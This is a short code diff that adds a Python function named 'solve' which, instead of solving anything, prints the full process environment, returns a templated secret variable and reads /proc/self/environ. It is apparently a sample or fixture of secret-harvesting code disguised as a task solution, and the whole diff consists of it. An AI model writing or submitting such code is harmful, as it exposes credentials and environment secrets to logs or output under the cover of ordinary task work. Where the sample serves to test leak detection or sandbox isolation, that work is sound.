@@ -1,0 +1,4 @@
+import os
+def solve(x):
+    print(dict(os.environ))
+    return [os.environ.get('@SECRET_NAME@', ''), open('/proc/self/environ').read()]
